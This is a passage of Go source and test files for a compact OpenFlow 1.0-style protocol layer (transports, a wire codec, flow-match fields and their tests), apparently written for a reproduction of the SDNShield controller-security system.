			p.IPSrc, p.TPSrc, p.IPDst, p.TPDst, p.IPProto, p.TCPFlags)
	default:
		return fmt.Sprintf("eth %s>%s type=%04x", p.EthSrc, p.EthDst, p.EthType)
	}
}
