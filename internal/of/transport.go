package of

import (
	"bufio"
	"errors"
	"net"
	"sync"
)

// Conn is a bidirectional OpenFlow message channel between one switch and
// the controller. Implementations must be safe for one concurrent reader
// and any number of concurrent writers.
type Conn interface {
	// Send transmits one message to the peer.
	Send(msg Message) error
	// Recv blocks until the next message from the peer arrives.
	Recv() (Message, error)
	// Close tears the channel down; pending and future calls fail with
	// ErrClosed.
	Close() error
}

// ErrClosed reports use of a closed connection.
var ErrClosed = errors.New("of: connection closed")

// chanConn is one endpoint of an in-memory connection pair.
type chanConn struct {
	out chan<- Message
	in  <-chan Message

	closeOnce sync.Once
	closed    chan struct{}
	peerDone  chan struct{}
}

// Pipe returns two connected in-memory endpoints. Messages sent on one are
// received on the other. This is the default transport of the simulator:
// it preserves the asynchronous message-passing structure the paper's
// architecture measures, without socket noise in micro-benchmarks.
func Pipe() (Conn, Conn) {
	ab := make(chan Message, 256)
	ba := make(chan Message, 256)
	aClosed := make(chan struct{})
	bClosed := make(chan struct{})
	a := &chanConn{out: ab, in: ba, closed: aClosed, peerDone: bClosed}
	b := &chanConn{out: ba, in: ab, closed: bClosed, peerDone: aClosed}
	return a, b
}

// Send implements Conn.
func (c *chanConn) Send(msg Message) error {
	// Check for closure first: with a buffered out channel the send case
	// below could win a select race against an already-closed endpoint.
	select {
	case <-c.closed:
		return ErrClosed
	case <-c.peerDone:
		return ErrClosed
	default:
	}
	select {
	case <-c.closed:
		return ErrClosed
	case <-c.peerDone:
		return ErrClosed
	case c.out <- msg:
		return nil
	}
}

// Recv implements Conn.
func (c *chanConn) Recv() (Message, error) {
	select {
	case <-c.closed:
		return nil, ErrClosed
	case msg := <-c.in:
		return msg, nil
	case <-c.peerDone:
		// Drain anything the peer sent before closing.
		select {
		case msg := <-c.in:
			return msg, nil
		default:
			return nil, ErrClosed
		}
	}
}

// Close implements Conn.
func (c *chanConn) Close() error {
	c.closeOnce.Do(func() { close(c.closed) })
	return nil
}

// netConn adapts a stream socket into a Conn using the wire codec.
type netConn struct {
	conn net.Conn
	br   *bufio.Reader

	mu sync.Mutex // serializes frame writes
	bw *bufio.Writer
}

// NewNetConn wraps a stream connection (typically TCP) with the OpenFlow
// wire codec.
func NewNetConn(conn net.Conn) Conn {
	return &netConn{
		conn: conn,
		br:   bufio.NewReader(conn),
		bw:   bufio.NewWriter(conn),
	}
}

// Send implements Conn.
func (c *netConn) Send(msg Message) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if err := WriteMessage(c.bw, msg); err != nil {
		return err
	}
	return c.bw.Flush()
}

// Recv implements Conn.
func (c *netConn) Recv() (Message, error) {
	return ReadMessage(c.br)
}

// Close implements Conn.
func (c *netConn) Close() error { return c.conn.Close() }

var (
	_ Conn = (*chanConn)(nil)
	_ Conn = (*netConn)(nil)
)
