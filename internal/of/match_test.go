package of

import (
	"math/rand"
	"reflect"
	"testing"
	"testing/quick"
)

func TestPrefixMask(t *testing.T) {
	tests := []struct {
		bits int
		want IPv4
	}{
		{0, 0},
		{8, 0xff000000},
		{16, 0xffff0000},
		{24, 0xffffff00},
		{32, 0xffffffff},
		{-3, 0},
		{40, 0xffffffff},
	}
	for _, tt := range tests {
		if got := PrefixMask(tt.bits); got != tt.want {
			t.Errorf("PrefixMask(%d) = %x, want %x", tt.bits, got, tt.want)
		}
	}
}

func TestIPv4Formatting(t *testing.T) {
	ip := IPv4FromOctets(10, 13, 0, 7)
	if got := ip.String(); got != "10.13.0.7" {
		t.Errorf("String() = %q, want 10.13.0.7", got)
	}
	if !ip.InSubnet(IPv4FromOctets(10, 13, 0, 0), PrefixMask(16)) {
		t.Error("10.13.0.7 should be in 10.13.0.0/16")
	}
	if ip.InSubnet(IPv4FromOctets(10, 14, 0, 0), PrefixMask(16)) {
		t.Error("10.13.0.7 should not be in 10.14.0.0/16")
	}
}

func TestMACRoundTrip(t *testing.T) {
	m := MAC{0xde, 0xad, 0xbe, 0xef, 0x00, 0x42}
	if got := MACFromUint64(m.Uint64()); got != m {
		t.Errorf("round trip = %v, want %v", got, m)
	}
	if got := m.String(); got != "de:ad:be:ef:00:42" {
		t.Errorf("String() = %q", got)
	}
	if !(MAC{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}).IsBroadcast() {
		t.Error("broadcast MAC not detected")
	}
	if m.IsBroadcast() {
		t.Error("unicast MAC misdetected as broadcast")
	}
}

func TestParseField(t *testing.T) {
	tests := []struct {
		name string
		want Field
		ok   bool
	}{
		{"IP_SRC", FieldIPSrc, true},
		{"IP_DST", FieldIPDst, true},
		{"TCP_SRC", FieldTPSrc, true},
		{"NW_DST", FieldIPDst, true},
		{"DL_TYPE", FieldEthType, true},
		{"BOGUS", 0, false},
	}
	for _, tt := range tests {
		got, ok := ParseField(tt.name)
		if ok != tt.ok || got != tt.want {
			t.Errorf("ParseField(%q) = (%v,%v), want (%v,%v)", tt.name, got, ok, tt.want, tt.ok)
		}
	}
}

func TestMatchSetGetWildcard(t *testing.T) {
	m := NewMatch()
	if !m.IsWildcarded(FieldIPDst) {
		t.Fatal("new match should wildcard everything")
	}
	m.SetMasked(FieldIPDst, uint64(IPv4FromOctets(10, 13, 0, 0)), uint64(PrefixMask(16)))
	v, mask := m.Get(FieldIPDst)
	if IPv4(v) != IPv4FromOctets(10, 13, 0, 0) || IPv4(mask) != PrefixMask(16) {
		t.Errorf("Get = %x/%x", v, mask)
	}
	// Values outside the mask must be canonicalized away.
	m.SetMasked(FieldIPSrc, uint64(IPv4FromOctets(10, 13, 9, 9)), uint64(PrefixMask(16)))
	v, _ = m.Get(FieldIPSrc)
	if IPv4(v) != IPv4FromOctets(10, 13, 0, 0) {
		t.Errorf("value not masked: %s", IPv4(v))
	}
	// Zero mask removes the constraint.
	m.SetMasked(FieldIPSrc, 1, 0)
	if !m.IsWildcarded(FieldIPSrc) {
		t.Error("zero mask should wildcard the field")
	}
}

func TestMatchMatchesPacket(t *testing.T) {
	pkt := NewTCPPacket(
		MAC{1}, MAC{2},
		IPv4FromOctets(10, 13, 1, 5), IPv4FromOctets(192, 168, 0, 9),
		43210, 80, TCPFlagSYN,
	)
	tests := []struct {
		name  string
		match func() *Match
		want  bool
	}{
		{"wildcard", NewMatch, true},
		{"dst subnet hit", func() *Match {
			return NewMatch().SetMasked(FieldIPDst, uint64(IPv4FromOctets(192, 168, 0, 0)), uint64(PrefixMask(16)))
		}, true},
		{"dst subnet miss", func() *Match {
			return NewMatch().SetMasked(FieldIPDst, uint64(IPv4FromOctets(10, 0, 0, 0)), uint64(PrefixMask(8)))
		}, false},
		{"port exact", func() *Match {
			return NewMatch().Set(FieldTPDst, 80)
		}, true},
		{"in-port", func() *Match {
			return NewMatch().Set(FieldInPort, 3)
		}, true},
		{"in-port miss", func() *Match {
			return NewMatch().Set(FieldInPort, 4)
		}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := tt.match().MatchesPacket(pkt, 3); got != tt.want {
				t.Errorf("MatchesPacket = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestMatchSubsumes(t *testing.T) {
	wide := NewMatch().SetMasked(FieldIPDst, uint64(IPv4FromOctets(10, 13, 0, 0)), uint64(PrefixMask(16)))
	narrow := NewMatch().
		SetMasked(FieldIPDst, uint64(IPv4FromOctets(10, 13, 7, 0)), uint64(PrefixMask(24))).
		Set(FieldTPDst, 80)
	if !wide.Subsumes(narrow) {
		t.Error("/16 should subsume /24 with extra constraint")
	}
	if narrow.Subsumes(wide) {
		t.Error("narrow must not subsume wide")
	}
	if !NewMatch().Subsumes(narrow) {
		t.Error("wildcard subsumes everything")
	}
	other := NewMatch().SetMasked(FieldIPDst, uint64(IPv4FromOctets(10, 14, 0, 0)), uint64(PrefixMask(16)))
	if wide.Subsumes(other) || other.Subsumes(wide) {
		t.Error("disjoint subnets must not subsume each other")
	}
}

func TestMatchOverlaps(t *testing.T) {
	a := NewMatch().SetMasked(FieldIPDst, uint64(IPv4FromOctets(10, 13, 0, 0)), uint64(PrefixMask(16)))
	b := NewMatch().Set(FieldTPDst, 80)
	if !a.Overlaps(b) {
		t.Error("constraints on different fields overlap")
	}
	c := NewMatch().SetMasked(FieldIPDst, uint64(IPv4FromOctets(10, 14, 0, 0)), uint64(PrefixMask(16)))
	if a.Overlaps(c) {
		t.Error("disjoint subnets must not overlap")
	}
}

func TestMatchEqualCloneKey(t *testing.T) {
	a := NewMatch().
		SetMasked(FieldIPDst, uint64(IPv4FromOctets(10, 13, 0, 0)), uint64(PrefixMask(16))).
		Set(FieldEthType, uint64(EthTypeIPv4))
	b := a.Clone()
	if !a.Equal(b) || a.Key() != b.Key() {
		t.Fatal("clone should be equal with identical key")
	}
	b.Set(FieldTPDst, 443)
	if a.Equal(b) || a.Key() == b.Key() {
		t.Error("modified clone should differ")
	}
	if a.IsWildcarded(FieldTPDst) != true {
		t.Error("mutating clone must not touch original")
	}
}

// randomMatch builds a random match for property tests.
func randomMatch(r *rand.Rand) *Match {
	m := NewMatch()
	for _, f := range AllFields {
		if r.Intn(3) == 0 {
			bits := FieldBits(f)
			mask := r.Uint64() & FullMask(f)
			if r.Intn(2) == 0 { // often use prefix masks, as real rules do
				mask = FullMask(f) << uint(r.Intn(bits)) & FullMask(f)
			}
			m.SetMasked(f, r.Uint64(), mask)
		}
	}
	return m
}

// randomPacketFor draws a packet that satisfies m where constrained and is
// random elsewhere.
func randomPacketFor(m *Match, r *rand.Rand) (*Packet, uint16) {
	p := &Packet{}
	inPort := uint16(r.Intn(48))
	for _, f := range AllFields {
		v := r.Uint64() & FullMask(f)
		if mask := m.masks[f]; mask != 0 {
			v = (v &^ mask) | m.values[f]
		}
		if f == FieldInPort {
			inPort = uint16(v)
			continue
		}
		p.SetFieldValue(f, v)
	}
	return p, inPort
}

func TestPropertySubsumesImpliesMatch(t *testing.T) {
	// If wide subsumes narrow, every packet satisfying narrow satisfies wide.
	r := rand.New(rand.NewSource(7))
	for i := 0; i < 2000; i++ {
		wide := randomMatch(r)
		narrow := wide.Clone()
		// Narrow further with extra constraints.
		extra := randomMatch(r)
		for _, f := range extra.ConstrainedFields() {
			ev, em := extra.Get(f)
			nv, nm := narrow.Get(f)
			narrow.SetMasked(f, nv|(ev&^nm), nm|em)
		}
		if !wide.Subsumes(narrow) {
			// Narrowing by OR-ing masks keeps constrained bit values, so
			// subsumption must hold.
			t.Fatalf("iteration %d: widened match does not subsume", i)
		}
		pkt, inPort := randomPacketFor(narrow, r)
		if !narrow.MatchesPacket(pkt, inPort) {
			t.Fatalf("iteration %d: generated packet does not satisfy narrow", i)
		}
		if !wide.MatchesPacket(pkt, inPort) {
			t.Fatalf("iteration %d: subsumption violated by packet %v", i, pkt)
		}
	}
}

func TestPropertyMatchFromPacketMatches(t *testing.T) {
	f := func(srcIP, dstIP uint32, srcPort, dstPort uint16, seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		pkt := NewTCPPacket(
			MACFromUint64(r.Uint64()), MACFromUint64(r.Uint64()),
			IPv4(srcIP), IPv4(dstIP), srcPort, dstPort, TCPFlagACK,
		)
		inPort := uint16(r.Intn(100))
		return MatchFromPacket(pkt, inPort).MatchesPacket(pkt, inPort)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestPropertySubsumesReflexiveTransitive(t *testing.T) {
	r := rand.New(rand.NewSource(11))
	for i := 0; i < 1000; i++ {
		a := randomMatch(r)
		if !a.Subsumes(a) {
			t.Fatal("subsumes not reflexive")
		}
	}
	// Transitivity over a chain built by repeated narrowing.
	for i := 0; i < 500; i++ {
		a := randomMatch(r)
		b := a.Clone().Set(FieldEthType, uint64(EthTypeIPv4))
		c := b.Clone().Set(FieldTPDst, uint64(r.Intn(65536)))
		if a.Subsumes(b) && b.Subsumes(c) && !a.Subsumes(c) {
			t.Fatal("subsumes not transitive")
		}
	}
}

func TestActionHelpers(t *testing.T) {
	acts := []Action{Output(3), SetField(FieldIPDst, 42), Drop(), Flood(), Output(PortController)}
	got := ActionsString(acts)
	want := "output:3,set(IP_DST=2a),drop,flood,output:CONTROLLER"
	if got != want {
		t.Errorf("ActionsString = %q, want %q", got, want)
	}
	if ActionsString(nil) != "drop" {
		t.Error("empty action list should render as drop")
	}
	cloned := CloneActions(acts)
	if !reflect.DeepEqual(cloned, acts) {
		t.Error("clone differs")
	}
	cloned[0].Port = 9
	if acts[0].Port == 9 {
		t.Error("clone aliases original")
	}
	if CloneActions(nil) != nil {
		t.Error("nil clone should stay nil")
	}
}

func TestPacketFieldRoundTrip(t *testing.T) {
	p := &Packet{}
	for _, f := range AllFields {
		if f == FieldInPort {
			continue
		}
		want := uint64(0xa5a5a5a5a5a5a5a5) & FullMask(f)
		p.SetFieldValue(f, want)
		if got := p.FieldValue(f, 0); got != want {
			t.Errorf("field %s: got %x, want %x", f, got, want)
		}
	}
}
