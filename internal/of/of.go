// Package of implements a compact OpenFlow 1.0-style protocol substrate:
// the 12-tuple flow match, flow actions, controller/switch messages, a
// binary wire codec and both in-memory and TCP transports.
//
// The package is the lowest layer of the SDNShield reproduction. Everything
// above it (flow tables, the network simulator, the controller kernel, the
// permission engine) speaks these types. The protocol is deliberately a
// faithful subset of OpenFlow 1.0: it keeps the semantics SDNShield's
// evaluation depends on (priority matching, wildcards, packet-in/out,
// flow-mod, per-flow/port statistics, error replies) while omitting
// features the paper never exercises (queues, vendor extensions).
package of

import "fmt"

// Version is the wire protocol version emitted by this implementation.
// It mirrors OpenFlow 1.0 (0x01).
const Version uint8 = 0x01

// Well-known EtherTypes used by the simulator and the example apps.
const (
	EthTypeIPv4 uint16 = 0x0800
	EthTypeARP  uint16 = 0x0806
	EthTypeLLDP uint16 = 0x88cc
)

// IP protocol numbers used by the simulator and the example apps.
const (
	IPProtoICMP uint8 = 1
	IPProtoTCP  uint8 = 6
	IPProtoUDP  uint8 = 17
)

// TCP flag bits carried in Packet.TCPFlags.
const (
	TCPFlagFIN uint8 = 1 << 0
	TCPFlagSYN uint8 = 1 << 1
	TCPFlagRST uint8 = 1 << 2
	TCPFlagPSH uint8 = 1 << 3
	TCPFlagACK uint8 = 1 << 4
)

// Reserved port numbers, mirroring the OpenFlow 1.0 ofp_port enum.
const (
	// PortMax is the highest valid physical port number.
	PortMax uint16 = 0xff00
	// PortInPort outputs the packet on its ingress port.
	PortInPort uint16 = 0xfff8
	// PortFlood floods on all ports except the ingress port.
	PortFlood uint16 = 0xfffb
	// PortAll outputs on all ports including the ingress port.
	PortAll uint16 = 0xfffc
	// PortController sends the packet to the controller as a packet-in.
	PortController uint16 = 0xfffd
	// PortLocal addresses the switch-local networking stack.
	PortLocal uint16 = 0xfffe
	// PortNone drops the packet.
	PortNone uint16 = 0xffff
)

// DPID is an OpenFlow datapath identifier naming one switch.
type DPID uint64

// String formats the DPID the way OpenFlow tools conventionally print it.
func (d DPID) String() string {
	return fmt.Sprintf("of:%016x", uint64(d))
}

// MAC is a 48-bit Ethernet address.
type MAC [6]byte

// String renders the MAC in colon-separated hex.
func (m MAC) String() string {
	return fmt.Sprintf("%02x:%02x:%02x:%02x:%02x:%02x", m[0], m[1], m[2], m[3], m[4], m[5])
}

// IsBroadcast reports whether the MAC is the all-ones broadcast address.
func (m MAC) IsBroadcast() bool {
	return m == MAC{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
}

// Uint64 packs the MAC into the low 48 bits of a uint64.
func (m MAC) Uint64() uint64 {
	var v uint64
	for _, b := range m {
		v = v<<8 | uint64(b)
	}
	return v
}

// MACFromUint64 unpacks the low 48 bits of v into a MAC.
func MACFromUint64(v uint64) MAC {
	var m MAC
	for i := 5; i >= 0; i-- {
		m[i] = byte(v)
		v >>= 8
	}
	return m
}

// IPv4 is a 32-bit IPv4 address in host byte order.
type IPv4 uint32

// IPv4FromOctets builds an address from its four dotted-quad octets.
func IPv4FromOctets(a, b, c, d byte) IPv4 {
	return IPv4(uint32(a)<<24 | uint32(b)<<16 | uint32(c)<<8 | uint32(d))
}

// String renders the address in dotted-quad notation.
func (ip IPv4) String() string {
	return fmt.Sprintf("%d.%d.%d.%d", byte(ip>>24), byte(ip>>16), byte(ip>>8), byte(ip))
}

// InSubnet reports whether ip falls inside the subnet defined by base and
// mask (both host byte order, mask need not be a prefix mask).
func (ip IPv4) InSubnet(base, mask IPv4) bool {
	return ip&mask == base&mask
}

// PrefixMask returns the IPv4 mask with the given number of leading one
// bits. Lengths outside [0,32] are clamped.
func PrefixMask(bits int) IPv4 {
	if bits <= 0 {
		return 0
	}
	if bits >= 32 {
		return 0xffffffff
	}
	return IPv4(^uint32(0) << (32 - bits))
}
