package of

import (
	"bytes"
	"math/rand"
	"net"
	"reflect"
	"sync"
	"testing"
)

// sampleMessages returns one populated instance of every message type.
func sampleMessages() []Message {
	match := NewMatch().
		SetMasked(FieldIPDst, uint64(IPv4FromOctets(10, 13, 0, 0)), uint64(PrefixMask(16))).
		Set(FieldEthType, uint64(EthTypeIPv4))
	pkt := NewTCPPacket(
		MAC{1, 2, 3, 4, 5, 6}, MAC{7, 8, 9, 10, 11, 12},
		IPv4FromOctets(10, 13, 1, 1), IPv4FromOctets(10, 13, 2, 2),
		1234, 80, TCPFlagSYN,
	)
	pkt.Payload = []byte("GET / HTTP/1.1")
	return []Message{
		&Hello{Header: Header{Xid: 1}},
		&EchoRequest{Header: Header{Xid: 2}, Data: []byte("ping")},
		&EchoReply{Header: Header{Xid: 2}, Data: []byte("ping")},
		&Error{Header: Header{Xid: 3}, Code: ErrPermDenied, Message: "insert_flow denied"},
		&FeaturesRequest{Header: Header{Xid: 4}},
		&FeaturesReply{Header: Header{Xid: 4}, DPID: 0xab, NumPorts: 2, Ports: []PortInfo{
			{Port: 1, Name: "eth1", Up: true},
			{Port: 2, Name: "eth2", Up: false},
		}},
		&PacketIn{Header: Header{Xid: 5}, DPID: 7, InPort: 3, Reason: ReasonNoMatch, BufferID: 99, Packet: pkt},
		&PacketOut{Header: Header{Xid: 6}, DPID: 7, InPort: PortNone, BufferID: 99,
			Actions: []Action{Output(2), SetField(FieldIPDst, 42)}, Packet: pkt},
		&FlowMod{Header: Header{Xid: 7}, DPID: 7, Command: FlowAdd, Match: match,
			Priority: 100, IdleTimeout: 30, HardTimeout: 300, Cookie: 0xdead,
			Actions: []Action{Output(4)}},
		&FlowRemoved{Header: Header{Xid: 8}, DPID: 7, Match: match, Priority: 100,
			Cookie: 0xdead, Reason: RemovedIdleTimeout, Packets: 10, Bytes: 1000},
		&PortStatus{Header: Header{Xid: 9}, DPID: 7, Reason: PortModified,
			Port: PortInfo{Port: 2, Name: "eth2", Up: true}},
		&StatsRequest{Header: Header{Xid: 10}, DPID: 7, Kind: StatsFlow, Match: match, Port: PortNone},
		&StatsReply{Header: Header{Xid: 10}, DPID: 7, Kind: StatsFlow,
			Flows:  []FlowStatsEntry{{Match: match, Priority: 5, Cookie: 1, Packets: 2, Bytes: 3}},
			Ports:  []PortStatsEntry{{Port: 1, RxPackets: 4, TxPackets: 5, RxBytes: 6, TxBytes: 7, Drops: 8}},
			Switch: SwitchStats{FlowCount: 9, PacketsTotal: 10, BytesTotal: 11},
		},
		&BarrierRequest{Header: Header{Xid: 11}},
		&BarrierReply{Header: Header{Xid: 11}},
	}
}

func messagesEquivalent(a, b Message) bool {
	// Matches carry unexported maps; compare via Key/Equal by reflection
	// over the rest.
	return reflect.DeepEqual(normalize(a), normalize(b))
}

// normalize rewrites *Match fields into their canonical Key strings so
// DeepEqual compares semantics, not map layout.
func normalize(m Message) interface{} {
	switch v := m.(type) {
	case *FlowMod:
		c := *v
		return struct {
			FlowMod
			MatchKey string
		}{c, keyOf(v.Match)}
	case *FlowRemoved:
		c := *v
		return struct {
			FlowRemoved
			MatchKey string
		}{c, keyOf(v.Match)}
	case *StatsRequest:
		c := *v
		return struct {
			StatsRequest
			MatchKey string
		}{c, keyOf(v.Match)}
	case *StatsReply:
		c := *v
		keys := make([]string, len(v.Flows))
		for i := range v.Flows {
			keys[i] = keyOf(v.Flows[i].Match)
		}
		return struct {
			StatsReply
			Keys []string
		}{c, keys}
	default:
		return m
	}
}

func keyOf(m *Match) string {
	if m == nil {
		return ""
	}
	return m.Key()
}

func TestCodecRoundTripAllMessages(t *testing.T) {
	for _, msg := range sampleMessages() {
		t.Run(msg.Type().String(), func(t *testing.T) {
			frame, err := Encode(msg)
			if err != nil {
				t.Fatalf("encode: %v", err)
			}
			got, err := Decode(frame)
			if err != nil {
				t.Fatalf("decode: %v", err)
			}
			if got.Type() != msg.Type() || got.XID() != msg.XID() {
				t.Fatalf("type/xid mismatch: %v vs %v", got, msg)
			}
			if !messagesEquivalent(got, msg) {
				t.Errorf("round trip mismatch:\n got %#v\nwant %#v", got, msg)
			}
		})
	}
}

func TestDecodeRejectsCorruptFrames(t *testing.T) {
	frame, err := Encode(&FlowMod{Header: Header{Xid: 1}, Command: FlowAdd, Match: NewMatch()})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Decode(frame[:5]); err == nil {
		t.Error("short frame accepted")
	}
	bad := append([]byte(nil), frame...)
	bad[0] = 0x99
	if _, err := Decode(bad); err == nil {
		t.Error("bad version accepted")
	}
	bad2 := append([]byte(nil), frame...)
	bad2[2] = 0xff // corrupt length
	if _, err := Decode(bad2); err == nil {
		t.Error("bad length accepted")
	}
	if _, err := Decode(append([]byte(nil), frame[:len(frame)-3]...)); err == nil {
		t.Error("truncated body accepted")
	}
}

func TestDecodeFuzzNoPanics(t *testing.T) {
	// Random mutations of valid frames must never panic; errors are fine.
	r := rand.New(rand.NewSource(42))
	for _, msg := range sampleMessages() {
		frame, err := Encode(msg)
		if err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 300; i++ {
			mutated := append([]byte(nil), frame...)
			for j := 0; j < 1+r.Intn(4); j++ {
				mutated[r.Intn(len(mutated))] ^= byte(1 << r.Intn(8))
			}
			_, _ = Decode(mutated) //nolint:errcheck // error or success both fine
		}
	}
}

func TestReadWriteMessageStream(t *testing.T) {
	var buf bytes.Buffer
	msgs := sampleMessages()
	for _, msg := range msgs {
		if err := WriteMessage(&buf, msg); err != nil {
			t.Fatal(err)
		}
	}
	for _, want := range msgs {
		got, err := ReadMessage(&buf)
		if err != nil {
			t.Fatal(err)
		}
		if got.Type() != want.Type() {
			t.Fatalf("stream order broken: got %v, want %v", got.Type(), want.Type())
		}
	}
}

func TestPipeConnExchange(t *testing.T) {
	a, b := Pipe()
	defer a.Close()
	defer b.Close()

	if err := a.Send(&Hello{Header: Header{Xid: 1}}); err != nil {
		t.Fatal(err)
	}
	msg, err := b.Recv()
	if err != nil {
		t.Fatal(err)
	}
	if msg.Type() != MsgHello {
		t.Fatalf("got %v, want HELLO", msg.Type())
	}

	if err := b.Send(&EchoReply{Header: Header{Xid: 1}}); err != nil {
		t.Fatal(err)
	}
	if msg, err = a.Recv(); err != nil || msg.Type() != MsgEchoReply {
		t.Fatalf("got (%v,%v)", msg, err)
	}
}

func TestPipeConnClose(t *testing.T) {
	a, b := Pipe()
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	if err := a.Send(&Hello{}); err != ErrClosed {
		t.Errorf("send on closed = %v, want ErrClosed", err)
	}
	if _, err := b.Recv(); err != ErrClosed {
		t.Errorf("recv from closed peer = %v, want ErrClosed", err)
	}
	if err := b.Send(&Hello{}); err != ErrClosed {
		t.Errorf("send to closed peer = %v, want ErrClosed", err)
	}
	// Double close is safe.
	if err := a.Close(); err != nil {
		t.Error(err)
	}
}

func TestPipeDrainAfterPeerClose(t *testing.T) {
	a, b := Pipe()
	defer b.Close()
	if err := a.Send(&Hello{Header: Header{Xid: 5}}); err != nil {
		t.Fatal(err)
	}
	a.Close()
	msg, err := b.Recv()
	if err != nil || msg.XID() != 5 {
		t.Fatalf("pending message lost: (%v, %v)", msg, err)
	}
}

func TestNetConnOverTCP(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()

	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		c, err := ln.Accept()
		if err != nil {
			t.Error(err)
			return
		}
		conn := NewNetConn(c)
		defer conn.Close()
		for {
			msg, err := conn.Recv()
			if err != nil {
				return
			}
			if err := conn.Send(&EchoReply{Header: Header{Xid: msg.XID()}}); err != nil {
				return
			}
		}
	}()

	c, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	conn := NewNetConn(c)
	for i := uint32(1); i <= 10; i++ {
		if err := conn.Send(&EchoRequest{Header: Header{Xid: i}, Data: []byte("x")}); err != nil {
			t.Fatal(err)
		}
		reply, err := conn.Recv()
		if err != nil {
			t.Fatal(err)
		}
		if reply.XID() != i {
			t.Fatalf("xid = %d, want %d", reply.XID(), i)
		}
	}
	conn.Close()
	wg.Wait()
}
