package of

import (
	"fmt"
	"strings"
)

// Field identifies one attribute of the OpenFlow 12-tuple match. The same
// identifiers are used by the SDNShield permission language (Appendix A)
// when filters constrain flow predicates.
type Field uint8

// Match fields, mirroring the OpenFlow 1.0 12-tuple.
const (
	FieldInPort Field = iota + 1
	FieldEthSrc
	FieldEthDst
	FieldEthType
	FieldVLAN
	FieldVLANPriority
	FieldIPSrc
	FieldIPDst
	FieldIPProto
	FieldIPTOS
	FieldTPSrc // TCP/UDP source port
	FieldTPDst // TCP/UDP destination port
)

// AllFields lists every match field in wire order.
var AllFields = []Field{
	FieldInPort, FieldEthSrc, FieldEthDst, FieldEthType,
	FieldVLAN, FieldVLANPriority, FieldIPSrc, FieldIPDst,
	FieldIPProto, FieldIPTOS, FieldTPSrc, FieldTPDst,
}

var fieldNames = map[Field]string{
	FieldInPort:       "IN_PORT",
	FieldEthSrc:       "ETH_SRC",
	FieldEthDst:       "ETH_DST",
	FieldEthType:      "ETH_TYPE",
	FieldVLAN:         "VLAN_ID",
	FieldVLANPriority: "VLAN_PCP",
	FieldIPSrc:        "IP_SRC",
	FieldIPDst:        "IP_DST",
	FieldIPProto:      "IP_PROTO",
	FieldIPTOS:        "IP_TOS",
	FieldTPSrc:        "TCP_SRC",
	FieldTPDst:        "TCP_DST",
}

// String returns the permission-language spelling of the field.
func (f Field) String() string {
	if s, ok := fieldNames[f]; ok {
		return s
	}
	return fmt.Sprintf("FIELD(%d)", uint8(f))
}

// ParseField resolves a permission-language field name. The second result
// reports whether the name is known.
func ParseField(name string) (Field, bool) {
	for f, s := range fieldNames {
		if s == name {
			return f, true
		}
	}
	// Accept a few common aliases.
	switch strings.ToUpper(name) {
	case "NW_SRC":
		return FieldIPSrc, true
	case "NW_DST":
		return FieldIPDst, true
	case "UDP_SRC", "TP_SRC":
		return FieldTPSrc, true
	case "UDP_DST", "TP_DST":
		return FieldTPDst, true
	case "DL_SRC":
		return FieldEthSrc, true
	case "DL_DST":
		return FieldEthDst, true
	case "DL_TYPE":
		return FieldEthType, true
	}
	return 0, false
}

// FieldBits returns the width in bits of a field's value space.
func FieldBits(f Field) int {
	switch f {
	case FieldEthSrc, FieldEthDst:
		return 48
	case FieldIPSrc, FieldIPDst:
		return 32
	case FieldInPort, FieldEthType, FieldVLAN, FieldTPSrc, FieldTPDst:
		return 16
	default:
		return 8
	}
}

// FullMask returns the all-ones mask for a field.
func FullMask(f Field) uint64 {
	bits := FieldBits(f)
	if bits >= 64 {
		return ^uint64(0)
	}
	return (uint64(1) << bits) - 1
}

// numFields is the size of the per-field storage arrays (fields are
// 1-based, so index 0 is unused).
const numFields = int(FieldTPDst) + 1

// Match is an OpenFlow flow predicate: per-field values with per-field bit
// masks. A zero mask wildcards the field entirely; a full mask matches
// exactly. Arbitrary masks are supported for the IP fields (as in OF 1.0)
// and, in this implementation, uniformly for every field, which the
// SDNShield wildcard filter relies on.
//
// Storage is fixed-size arrays rather than maps: matches are on the
// permission-check and packet-lookup hot paths, and array copies keep
// Clone allocation-free beyond the struct itself.
type Match struct {
	values [numFields]uint64
	masks  [numFields]uint64
}

// NewMatch returns a match that wildcards every field.
func NewMatch() *Match {
	return &Match{}
}

// Clone returns a deep copy of the match.
func (m *Match) Clone() *Match {
	c := *m
	return &c
}

// Set constrains a field to match value exactly.
func (m *Match) Set(f Field, value uint64) *Match {
	return m.SetMasked(f, value, FullMask(f))
}

// SetMasked constrains a field to match value under mask. A zero mask
// removes the constraint.
func (m *Match) SetMasked(f Field, value, mask uint64) *Match {
	if int(f) <= 0 || int(f) >= numFields {
		return m // unknown field (e.g. from a corrupt frame): ignore
	}
	mask &= FullMask(f)
	if mask == 0 {
		m.values[f] = 0
		m.masks[f] = 0
		return m
	}
	m.values[f] = value & mask
	m.masks[f] = mask
	return m
}

// Get returns the value and mask constraining a field. A zero mask means
// the field is wildcarded.
func (m *Match) Get(f Field) (value, mask uint64) {
	if int(f) <= 0 || int(f) >= numFields {
		return 0, 0
	}
	return m.values[f], m.masks[f]
}

// IsWildcarded reports whether the field carries no constraint at all.
func (m *Match) IsWildcarded(f Field) bool {
	if int(f) <= 0 || int(f) >= numFields {
		return true
	}
	return m.masks[f] == 0
}

// ConstrainedFields returns the fields with a non-zero mask, in wire order.
func (m *Match) ConstrainedFields() []Field {
	var out []Field
	for _, f := range AllFields {
		if m.masks[f] != 0 {
			out = append(out, f)
		}
	}
	return out
}

// MatchesPacket reports whether a concrete packet satisfies the predicate.
// inPort is the port the packet arrived on.
func (m *Match) MatchesPacket(p *Packet, inPort uint16) bool {
	for i := 1; i < numFields; i++ {
		mask := m.masks[i]
